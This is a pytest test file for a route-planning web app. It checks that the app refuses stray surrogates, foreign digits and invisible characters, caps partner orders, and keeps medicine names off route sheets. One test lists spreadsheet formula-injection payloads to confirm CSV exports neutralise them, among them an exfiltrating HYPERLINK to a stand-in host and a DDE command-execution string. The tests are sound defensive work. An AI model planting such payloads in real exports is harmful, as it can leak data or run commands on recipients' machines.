"""Input hygiene (issue 13, item 6): lone surrogates and other scripts' digits are refused by
field (never a 500, nothing stored), invisible and bidi characters never split or disguise a
resident, partner notes never reach a route sheet whatever medicine they name, a partner has a
daily order cap and an over-long CSV is refused whole with the limit named."""

from __future__ import annotations

import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import func, select

from tests.test_web_assistant import planned
from tests.test_web_planning import app as planning_app  # noqa: F401 (fixture)
from tests.web_fixtures import (  # noqa: F401 (pytest fixtures are used by name)
    DAY, accounts, app, bearer, client, csrf_token, db_session, login, make_app, post_form,
    seeded_db, web_area)
from web import csvsafe
from web.store import Assistant, Order, Plan, Resident, Shift, User

WEB = Path(__file__).resolve().parent.parent / "web"
ORDER = {"recipient": "S. Urr", "address": "Unioninkatu 29", "kind": "medicine",
         "service_date": DAY.isoformat()}
#: Real medicine names, brand and generic, as a pharmacy might type them into a note.
MEDICINES = ("insuline", "methadon", "Ozempic", "oxycodon", "Metformine", "Eliquis",
             "temazepam", "Fentanyl")
NOTES = ("insuline en methadon in koelkast; Ozempic pen", "oxycodon, twee keer aanbellen",
         "Metformine en Eliquis in de zak", "temazepam en Fentanyl pleisters")


def counts(app) -> dict[str, int]:
    with sqlite3.connect(app.config["DATABASE_URL"].removeprefix("sqlite:///")) as con:
        return {t: con.execute(f"select count(*) from {t}").fetchone()[0]
                for t in ("orders", "residents", "order_events", "shifts", "stop_locks")}


def pharmacy_token(app, accounts) -> tuple[int, str]:
    with db_session(app) as s:
        partner = s.scalar(select(User).where(User.username == "apotheek1")).partner
        return partner.id, accounts.tokens[partner.name]


# --- lone surrogates --------------------------------------------------------------------------

@pytest.mark.parametrize("body, field", [
    ('{"recipient": "S. Urr\\ud800"}', "recipient"),
    ('{"note": "bel aan \\udfff"}', "note"),
    ('{"windows": [{"start": "10:00", "end": "1\\ud800"}]}', "windows[0].end"),
    ('{"address": "Unioninkatu 29\\udc80"}', "address"),
])
def test_a_lone_surrogate_is_a_field_error_not_a_500(app, accounts, body, field):
    _, token = pharmacy_token(app, accounts)
    merged = {**ORDER, **json.loads(body)}
    raw = json.dumps(merged)  # keeps the lone surrogate as a \\u escape
    before = counts(app)
    client = app.test_client()
    response = client.post("/api/v1/orders", data=raw, content_type="application/json",
                           headers=bearer(token))
    assert response.status_code == 422, response.get_data(as_text=True)
    assert field in response.get_json()["fields"]
    assert counts(app) == before
    order_id = client.get("/api/v1/orders", headers=bearer(token)).get_json()["orders"][0]["id"]
    patched = client.patch(f"/api/v1/orders/{order_id}", data=raw,
                           content_type="application/json", headers=bearer(token))
    assert patched.status_code == 422 and field in patched.get_json()["fields"]


# --- digits that are not 0-9 --------------------------------------------------------------------

def test_foreign_digits_on_the_coordinators_forms_are_field_errors(app):
    client = app.test_client()
    login(client, "coordinator")
    with db_session(app) as s:
        assistant = s.scalars(select(Assistant).where(Assistant.active)).first().id
        order = s.scalars(select(Order).where(Order.service_date == DAY)).first().id
        resident = s.scalars(select(Resident)).first().id
    shift = {"assistant_id": str(assistant), "service_date": DAY.isoformat(),
             "start": "09:00", "end": "13:00", "break_minutes": "0"}
    before = counts(app)
    for digit in ("²", "٩", "０"):
        for field, value in (("assistant_id", digit), ("break_minutes", digit),
                             ("start", f"0{digit}:00"), ("end", f"1{digit}:00")):
            response = post_form(client, "/coordinator/shifts", {**shift, field: value},
                                 page="/coordinator/", follow_redirects=True)
            assert response.status_code == 200, (field, value)
            assert "gebruik de cijfers 0 tot en met 9" in response.get_data(as_text=True)
        for field, value in (("assistant_id", digit), ("position", digit)):
            form = {"assistant_id": str(assistant), "position": "1", field: value}
            response = post_form(client, f"/coordinator/orders/{order}/lock", form,
                                 page="/coordinator/", follow_redirects=True)
            assert response.status_code == 200, (field, value)
            assert "gebruik de cijfers 0 tot en met 9" in response.get_data(as_text=True)
        for field in ("praatje_minutes", "regular_assistant_id", "phone"):
            url = f"/coordinator/residents/{resident}"
            response = post_form(client, url, {"praatje_minutes": "5", field: digit * 7})
            assert response.status_code == 422, (field, digit)
            assert "gebruik de cijfers 0 tot en met 9" in response.get_data(as_text=True)
    assert counts(app) == before
    with db_session(app) as s:
        assert s.scalar(select(func.count(Shift.id)).where(Shift.start.like("%٩%"))) == 0


def test_a_time_with_foreign_digits_is_never_stored(app, accounts):
    _, token = pharmacy_token(app, accounts)
    client = app.test_client()
    before = counts(app)
    for body in ({"windows": [{"start": "0٩:00", "end": "12:00"}]}, {"ready_time": "0٩:30"},
                 {"service_date": DAY.isoformat().replace("0", "٠")}):
        response = client.post("/api/v1/orders", json={**ORDER, **body}, headers=bearer(token))
        assert response.status_code == 422, body
        assert set(response.get_json()["fields"].values()) == {"use the digits 0 to 9"}
    partner = app.test_client()
    login(partner, "apotheek1")
    form = {"recipient": "S. Urr", "address": "Unioninkatu 29", "kind": "medicine",
            "service_date": DAY.isoformat(), "window1_start": "0٩:00", "window1_end": "12:00",
            "size": "1"}
    response = post_form(partner, "/partner/orders/new", form)
    assert response.status_code == 422
    assert "gebruik de cijfers 0 tot en met 9" in response.get_data(as_text=True)
    response = post_form(partner, "/partner/orders/new", {**form, "window1_start": "09:00",
                                                          "size": "٣"})
    assert response.status_code == 422
    assert counts(app) == before


# --- invisible and bidi characters --------------------------------------------------------------

def test_invisible_characters_neither_split_nor_disguise_a_resident(app, accounts):
    _, token = pharmacy_token(app, accounts)
    client = app.test_client()
    ids = []
    for name in ("Jan Jansen", "Jan\u200b Jansen", "\u202eJan Jansen\u202c", "Jan\u00ad Jansen",
                 "\ufeffJan Jansen\u2066"):
        response = client.post("/api/v1/orders", json={**ORDER, "recipient": name},
                               headers=bearer(token))
        assert response.status_code == 201, response.get_data(as_text=True)
        assert response.get_json()["recipient"] == "Jan Jansen"
        ids.append(response.get_json()["id"])
    decomposed = client.post("/api/v1/orders", json={**ORDER, "recipient": "Jose\u0301 Ruiz"},
                             headers=bearer(token))
    composed = client.post("/api/v1/orders", json={**ORDER, "recipient": "Jos\u00e9 Ruiz"},
                           headers=bearer(token))
    with db_session(app) as s:
        residents = {s.get(Order, i).resident_id for i in ids}
        assert len(residents) == 1  # one resident, not five profiles
        assert s.get(Order, decomposed.get_json()["id"]).resident_id == \
            s.get(Order, composed.get_json()["id"]).resident_id
        stored = s.scalars(select(Resident.name)).all()
    assert not any(re.search("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u00ad]", n)
                   for n in stored)


# --- CSV exports ---------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1,"klik")',
                                   "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "\r=1"])
def test_formula_cells_are_neutralised_in_csv_output(value):
    out = io.StringIO()
    csvsafe.writer(out).writerow(["J. Jansen", value, 3])
    import csv

    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["J. Jansen", "'" + value, "3"]


def test_every_csv_writer_of_the_app_is_the_safe_one():
    """A new export written with plain ``csv.writer`` would not neutralise formulas."""
    plain = [path.name for path in WEB.rglob("*.py") if path.name != "csvsafe.py"
             and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert plain == []


# --- partner notes never on a route sheet --------------------------------------------------------

def test_medicine_names_in_notes_never_reach_a_route_sheet(planning_app, accounts):
    app = planning_app
    partner_id, token = pharmacy_token(app, accounts)
    api = app.test_client()
    with db_session(app) as s:
        ids = s.scalars(select(Order.id).where(Order.partner_id == partner_id,
                                               Order.service_date == DAY,
                                               Order.status == "submitted")).all()
    assert ids
    for index, order_id in enumerate(ids):  # the API takes them: they are not doses
        response = api.patch(f"/api/v1/orders/{order_id}", headers=bearer(token),
                             json={"note": NOTES[index % len(NOTES)]})
        assert response.status_code == 200, response.get_data(as_text=True)
    new = api.post("/api/v1/orders", headers=bearer(token), json={
        **ORDER, "recipient": "K. Oelkast", "note": NOTES[0]})
    assert new.status_code == 201
    status = planned(app)
    with db_session(app) as s:
        plan = s.get(Plan, status["plan_id"])
        on_rounds = {int(v["order_id"]) for r in plan.payload["routes"] for v in r["visits"]}
        names = {u.username for u in s.scalars(select(User).where(User.assistant_id.is_not(None)))}
    assert on_rounds & set(ids), "no note-carrying order was planned"
    coordinator = app.test_client()
    login(coordinator, "coordinator")
    sheets = {"day": coordinator.get(f"/coordinator/?date={DAY}").get_data(as_text=True),
              "print": coordinator.get(f"/coordinator/print?date={DAY}").get_data(as_text=True),
              "pdf": pdf_text(coordinator.get(f"/coordinator/print.pdf?date={DAY}"))}
    for username in sorted(names):
        assistant = app.test_client()
        login(assistant, username)
        sheets[username] = assistant.get(f"/assistant/?date={DAY}").get_data(as_text=True)
        sheets[username + ".pdf"] = pdf_text(assistant.get(f"/assistant/round.pdf?date={DAY}"))
        for fmt in ("gpx", "geojson"):
            sheets[f"{username}.{fmt}"] = assistant.get(
                f"/assistant/round.{fmt}?date={DAY}").get_data(as_text=True)
    for where, text in sheets.items():
        for medicine in MEDICINES:
            assert medicine.lower() not in text.lower(), (where, medicine)
    assert "instructies van de apotheek" in sheets["print"]
    assert "instructies van de apotheek" in re.sub(r"\s+", " ", sheets["pdf"])


def pdf_text(response) -> str:
    assert response.status_code == 200 and response.data.startswith(b"%PDF-")
    return "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(response.data)).pages)


# --- limits --------------------------------------------------------------------------------------

def test_a_partner_has_a_daily_order_cap_on_every_way_in(tmp_path, seeded_db, accounts):
    import shutil

    database = tmp_path / "demo.sqlite"
    shutil.copy(seeded_db[0], database)
    probe = make_app(tmp_path / "probe", database)
    partner_id, token = pharmacy_token(probe, accounts)
    with db_session(probe) as s:
        have = s.scalar(select(func.count(Order.id)).where(
            Order.partner_id == partner_id, Order.service_date == DAY,
            Order.status != "cancelled"))
    probe.extensions["buurtroute.engine"].dispose()
    cap = have + 1
    app = make_app(tmp_path, database, PARTNER_DAILY_ORDER_CAP=cap)
    api = app.test_client()
    assert api.post("/api/v1/orders", json=ORDER, headers=bearer(token)).status_code == 201
    refused = api.post("/api/v1/orders", json={**ORDER, "recipient": "Z. Veel"},
                       headers=bearer(token))
    assert refused.status_code == 422
    reason = refused.get_json()["fields"]["service_date"]
    assert f"the limit is {cap} orders a day" in reason and f"already has {cap}" in reason
    before = counts(app)
    partner = app.test_client()
    login(partner, "apotheek1")
    form = {"recipient": "Z. Veel", "address": "Unioninkatu 29", "kind": "medicine",
            "service_date": DAY.isoformat(), "size": "1"}
    page = post_form(partner, "/partner/orders/new", form)
    assert page.status_code == 422
    assert f"de grens is {cap} orders per dag per partner" in page.get_data(as_text=True)
    text = "reference,recipient,address,kind,service_date\n" + "".join(
        f"cap-{i},Z. Veel,Unioninkatu 29,medicine,{DAY}\n" for i in range(3))
    upload = partner.post("/partner/upload", data={
        "csrf_token": csrf_token(partner, "/partner/upload"),
        "file": (io.BytesIO(text.encode()), "orders.csv")}, content_type="multipart/form-data")
    assert f"de grens is {cap} orders per dag per partner" in upload.get_data(as_text=True)
    assert counts(app) == before
    # another day still has room
    tomorrow = DAY.fromordinal(DAY.toordinal() + 1).isoformat()
    assert api.post("/api/v1/orders", json={**ORDER, "service_date": tomorrow},
                    headers=bearer(token)).status_code == 201
    app.extensions["buurtroute.engine"].dispose()


def test_an_over_long_csv_is_refused_whole_with_the_limit_named(app):
    partner = app.test_client()
    login(partner, "apotheek1")
    text = "reference,recipient,address,kind,service_date\n" + "".join(
        f"big-{i},R. Ij,Unioninkatu 29,medicine,{DAY}\n" for i in range(2100))
    before = counts(app)
    response = partner.post("/partner/upload", data={
        "csrf_token": csrf_token(partner, "/partner/upload"),
        "file": (io.BytesIO(text.encode()), "orders.csv")}, content_type="multipart/form-data")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "het bestand heeft 2100 regels, meer dan de 2000 van één upload" in html
    assert counts(app) == before
    huge = partner.post("/partner/upload", data={
        "csrf_token": csrf_token(partner, "/partner/upload"),
        "file": (io.BytesIO(b"x" * (3 * 1024 * 1024)), "orders.csv")},
        content_type="multipart/form-data")
    assert huge.status_code == 413
    assert "hoogstens 2 MB" in huge.get_data(as_text=True)
    assert counts(app) == before


def test_an_address_with_foreign_digits_is_refused_not_guessed(app, accounts):
    _, token = pharmacy_token(app, accounts)
    client = app.test_client()
    before = counts(app)
    for field, value in (("address", "Unioninkatu 2٩"), ("phone", "06 1234 567٨")):
        response = client.post("/api/v1/orders", json={**ORDER, field: value},
                               headers=bearer(token))
        assert response.status_code == 422
        assert response.get_json()["fields"] == {field: "use the digits 0 to 9"}
    assert counts(app) == before
    partner = app.test_client()
    login(partner, "apotheek1")
    checked = partner.post("/address/check", data='{"query": "Unionink\\ud800"}',
                           content_type="application/json",
                           headers={"X-CSRFToken": csrf_token(partner, "/partner/orders/new")})
    assert checked.status_code == 400 and checked.get_json()["ok"] is False


def test_usernames_cannot_look_like_another(app):
    from web.auth import create_user

    with db_session(app) as s:
        for name in ("coordinator\u200b", "co\u202eordinator", "coordi nator", ""):
            with pytest.raises(ValueError):
                create_user(s, name, "long-enough-secret", "coordinator")


def test_a_csv_with_foreign_digits_or_broken_text_names_the_field_and_stores_nothing(app):
    partner = app.test_client()
    login(partner, "apotheek1")
    text = ("reference,recipient,address,kind,service_date,windows,size\n"
            f"u-1,J. Een,Unioninkatu 29,medicine,{DAY},0٩:00-12:00,1\n"
            f"u-2,J. Twee,Unioninkatu 29,medicine,{DAY},09:00-12:00,٣\n"
            f"u-3,J. Drie,Unioninkatu 2٩,medicine,{DAY},09:00-12:00,1\n")
    before = counts(app)

    def upload(data: bytes) -> str:
        return partner.post("/partner/upload", data={
            "csrf_token": csrf_token(partner, "/partner/upload"),
            "file": (io.BytesIO(data), "orders.csv")},
            content_type="multipart/form-data").get_data(as_text=True)

    html = upload(text.encode())
    assert html.count("gebruik de cijfers 0 tot en met 9") == 3
    assert counts(app) == before
    surrogate = "reference,recipient\ns-1,S. Urr".encode() + b"\xed\xa0\x80\n"
    assert "UTF-8" in upload(surrogate)
    assert counts(app) == before
